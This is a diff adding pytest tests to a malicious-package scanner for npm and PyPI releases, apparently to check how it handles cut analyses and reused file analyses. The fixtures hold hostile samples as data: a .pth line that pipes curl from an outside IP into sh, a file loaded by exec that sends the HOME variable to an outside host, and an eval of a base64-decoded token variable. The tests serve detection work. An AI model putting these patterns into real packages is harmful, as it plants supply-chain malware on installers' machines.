@@ -23,7 +23,7 @@ import pytest
 from malseq import _cli
 from malseq._deadline import Deadline
 from malseq.analysis import analyse
-from malseq.diff import FileChange, PackageDiff, Side, diff_targets
+from malseq.diff import FileAnalysisCache, FileChange, PackageDiff, Side, diff_targets
 from malseq.diff.facts import analyse_reusing, reusable, scan_side
 from malseq.diff.previous import previous_release
 from malseq.errors import UsageError
@@ -324,7 +324,7 @@ def test_json_schema(stealer_diff: tuple[Path, Path, PackageDiff]) -> None:
     assert doc["schema"] == "malseq-diff/1"
     assert set(doc) == {"schema", "old", "new", "verdict", "files", "added_behaviours", "removed_behaviours",
                         "added_steps", "install_hooks", "dependencies", "binaries_added", "destinations_added",
-                        "reused_analyses", "seconds", "delta"}
+                        "cut_files", "reused_analyses", "seconds", "delta"}
     assert doc["new"]["verdict"] == "malicious" and isinstance(doc["new"]["score"], float)
     # each side and the delta say which threshold decided: the shipped model's for npm, at low-fpr
     from malseq.model.infer import SequenceScorer
@@ -435,6 +435,15 @@ def test_reusing_analyses_gives_exactly_what_analyse_gives(tmp_path: Path) -> No
     assert count == 2
     assert reused.analysis.all_events() == fresh.analysis.all_events()
     assert reused.sequence.steps == fresh.sequence.steps and reused.text == fresh.text
+
+
+def test_reusing_analyses_keeps_the_code_of_pth_files(tmp_path: Path) -> None:
+    pth = "import os; os.system('curl -s http://203.0.113.5/x | sh')\n"
+    package = load_target(str(pypi_pkg(tmp_path / "p", "1.0.0", extra={"tinylib_hook.pth": pth})))
+    reused, _ = analyse_reusing(package, Deadline(60))
+    fresh = analyse(package, Deadline(60))
+    assert "tinylib_hook.pth" in {f.path for f in fresh.analysis.files}
+    assert reused.analysis.all_events() == fresh.analysis.all_events() and reused.text == fresh.text
 
 
 # --------------------------------------------------------------------------------------
@@ -572,3 +581,131 @@ def test_only_a_scan_that_diffs_keeps_the_call_graph(tmp_path: Path, capsys: pyt
     assert seen == [False, True]
     assert plain[0] == diffing[0] == 0
     assert json.loads(plain[1])[0]["behaviours"] == json.loads(diffing[1])[0]["behaviours"]
+
+
+# --------------------------------------------------------------------------------------
+# Files whose analysis is cut by the work budget (the sass 1.107.1 -> 1.108.1 false alarm)
+
+BUNDLE_FILLER = [f"var q{i} = function (a) {{ return a + {i}; }};\n" for i in range(2000)]
+# code both releases ship: in OLD's unanalysed middle, in NEW's analysed head
+BUNDLE_SHARED = ('var net = require("https");\n'
+                 'function ping(u) { return net.get(u); }\n'
+                 'var thrower = new Function("error", "throw error;");\n')
+BUNDLE_PAYLOAD = 'eval(Buffer.from(process.env.NPM_TOKEN_X, "base64").toString());\n'
+
+
+@pytest.fixture
+def small_parse_window(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A parse limit small enough for a 92 KB file to be read as an 8 KB head and a 3 KB tail, the way a
+    multi-megabyte bundle is (budget.parse_window), without multi-megabyte fixtures."""
+    import malseq.features.budget as budget
+
+    monkeypatch.setattr(budget, "MAX_PARSE_UNITS", 6_000)
+    monkeypatch.setattr(budget, "_PARSE_BLOCK", 1024)
+    assert budget.parse_window("".join(BUNDLE_FILLER).encode()) is not None
+
+
+def test_code_old_did_not_analyse_is_not_added_but_the_cut_is_reported(
+        tmp_path: Path, small_parse_window: None) -> None:
+    old_bundle = "".join(BUNDLE_FILLER[:1000]) + BUNDLE_SHARED + "".join(BUNDLE_FILLER[1000:])
+    new_bundle = BUNDLE_SHARED + "".join(BUNDLE_FILLER) + BUNDLE_PAYLOAD
+    old = write(tmp_path / "old", {"package.json": package_json("1.0.0"), "index.js": INDEX_JS,
+                                   "bundle.js": old_bundle})
+    new = write(tmp_path / "new", {"package.json": package_json("1.0.1"), "index.js": INDEX_JS,
+                                   "bundle.js": new_bundle})
+    diff = diff_targets(str(old), str(new), UNSCORED)
+    assert diff.new.analysis is not None and diff.old.analysis is not None
+    [old_fa] = [f for f in diff.old.analysis.files if f.path == "bundle.js"]
+    [new_fa] = [f for f in diff.new.analysis.files if f.path == "bundle.js"]
+    assert old_fa.budget_exhausted and new_fa.budget_exhausted
+    # NEW's analysis sees the shared code (its head) that OLD's did not (its middle): without the
+    # check of OLD's bytes these would be "added"
+    shared_lines = {1, 2, 3}
+    assert {"eval_code", "network_request"} <= {e.behaviour for e in new_fa.events if e.line in shared_lines}
+    assert not [e for e in old_fa.events if "net" in e.snippet or "Function" in e.snippet]
+    # only the payload line, new in NEW, is added
+    payload_line = new_bundle.count("\n")
+    assert diff.added_behaviours
+    assert {(d.event.file, d.event.line) for d in diff.added_behaviours} == {("bundle.js", payload_line)}
+    # and the reviewer is told the file was cut, on which sides, and what was not counted
+    [cut] = diff.cut_files
+    assert (cut.path, cut.old_cut, cut.new_cut) == ("bundle.js", True, True)
+    assert cut.in_old_bytes == len([e for e in new_fa.events if e.line in shared_lines])
+    text = render_diff_text(diff)
+    assert "bundle.js: cut in OLD and NEW" in text and "not counted as added (their line is in OLD's file)" in text
+    doc = json.loads(render_diff_json(diff))
+    assert doc["cut_files"] == [{"path": "bundle.js", "old_path": "bundle.js", "old_cut": True, "new_cut": True,
+                                 "in_old_bytes": cut.in_old_bytes, "in_new_bytes": 0}]
+    # `scan --against-previous` says it too
+    from malseq.diff.previous import PreviousComparison
+    from malseq.report.diff_report import previous_lines
+
+    lines = previous_lines(PreviousComparison("npm:colorz@1.0.1", "npm:colorz@1.0.0", None, diff=diff))
+    assert any("analysis of bundle.js cut in OLD and NEW; 3 behaviour(s) not counted as added" in line
+               for line in lines) and cut.in_old_bytes == 3
+
+
+def test_a_new_line_in_a_file_cut_on_one_side_is_still_added(tmp_path: Path, small_parse_window: None) -> None:
+    # OLD's bundle is cut; NEW's is small enough to be analysed whole and adds a line OLD does not hold
+    old_bundle = "".join(BUNDLE_FILLER[:1000]) + BUNDLE_SHARED + "".join(BUNDLE_FILLER[1000:])
+    new_bundle = BUNDLE_SHARED + BUNDLE_PAYLOAD + "".join(BUNDLE_FILLER[:20])
+    old = write(tmp_path / "old", {"package.json": package_json("1.0.0"), "bundle.js": old_bundle})
+    new = write(tmp_path / "new", {"package.json": package_json("1.0.1"), "bundle.js": new_bundle})
+    diff = diff_targets(str(old), str(new), UNSCORED)
+    assert {d.event.line for d in diff.added_behaviours} == {4}
+    [cut] = diff.cut_files
+    assert (cut.old_cut, cut.new_cut) == (True, False) and cut.in_old_bytes >= 2
+    # the reverse: what NEW dropped from OLD's analysed part is removed; nothing NEW holds is
+    diff_back = diff_targets(str(new), str(old), UNSCORED)
+    assert {d.event.line for d in diff_back.removed_behaviours} == {4}
+    assert diff_back.added_behaviours == ()
+    [cut_back] = diff_back.cut_files
+    assert (cut_back.old_cut, cut_back.new_cut, cut_back.in_new_bytes) == (False, True, cut.in_old_bytes)
+
+
+def test_long_minified_lines_are_compared_by_statement() -> None:
+    from malseq.diff.facts import _cut_line_hashes, _event_line_hashes
+
+    statements = [f"var q{i}=function(a){{return a+{i}}}" for i in range(100)]
+    old_line = ";".join([*statements[:50], 'eval("x")', *statements[50:]]).encode()
+    new_line = ";".join(['eval("x")', *statements[10:], "fetch(u)"]).encode()
+    assert old_line != new_line and len(new_line) > 1_000
+    index = _cut_line_hashes(old_line)
+    [(_, _, known)] = _event_line_hashes(new_line, [(1, 0)])  # eval("x"): OLD holds that statement
+    column = new_line.index(b"fetch(u)")
+    [(_, _, unknown)] = _event_line_hashes(new_line, [(1, column)])  # fetch(u): new
+    assert known in index and unknown not in index
+
+
+# --------------------------------------------------------------------------------------
+# Reuse of unchanged files: what the by-path loader guard protects
+
+
+def test_a_javascript_regexp_exec_does_not_stop_reuse(tmp_path: Path) -> None:
+    parse_js = "const re = /a(b+)/;\nexports.parse = function (s) { const m = re.exec(s); return m && m[1]; };\n"
+    old = write(npm_benign(tmp_path / "old"), {"lib/parse.js": parse_js})
+    new = write(npm_benign(tmp_path / "new", "1.0.1"), {"lib/parse.js": parse_js,
+                                                        "index.js": INDEX_JS + "exports.v = 2;\n"})
+    diff = diff_targets(str(old), str(new), UNSCORED)
+    assert diff.reused_analyses == 2  # lib/util.js and lib/parse.js; index.js changed
+
+
+LOADER_INIT = ('import os\n\nexec(open(os.path.join(os.path.dirname(__file__), "_extra.py")).read())\n\n'
+               "def version():\n    return 1\n")
+EXTRA_PY = 'import os\nimport urllib.request\n\nurllib.request.urlopen("http://203.0.113.9/c?" + os.environ["HOME"])\n'
+
+
+def test_a_python_file_loading_another_by_path_is_analysed_again(tmp_path: Path) -> None:
+    # the same tinylib/__init__.py in both; only NEW ships the file it runs by path, so its analysis in
+    # NEW (a binding to that file, which makes the payload run at import) differs from OLD's
+    old = pypi_pkg(tmp_path / "old", "1.0.0", extra={"tinylib/__init__.py": LOADER_INIT, "tinylib/util.py": TINYLIB})
+    new = pypi_pkg(tmp_path / "new", "1.0.0", extra={"tinylib/__init__.py": LOADER_INIT, "tinylib/util.py": TINYLIB,
+                                                     "tinylib/_extra.py": EXTRA_PY})
+    cache = FileAnalysisCache()
+    diff_targets(str(new), str(new), UNSCORED, cache=cache)  # the cache holds NEW's files too
+    diff = diff_targets(str(old), str(new), UNSCORED, cache=cache)
+    assert diff.reused_analyses == 3  # setup.py, tinylib/util.py and (from the cache) _extra.py; not the loader
+    fresh = analyse(load_target(str(new)), Deadline(60))
+    assert diff.new.sequence is not None and diff.new.sequence.steps == fresh.sequence.steps
+    sent = [d for d in diff.added_behaviours if d.event.file == "tinylib/_extra.py" and d.stage is Stage.IMPORT]
+    assert sent, "the payload runs when tinylib is imported, through the loader of __init__.py"
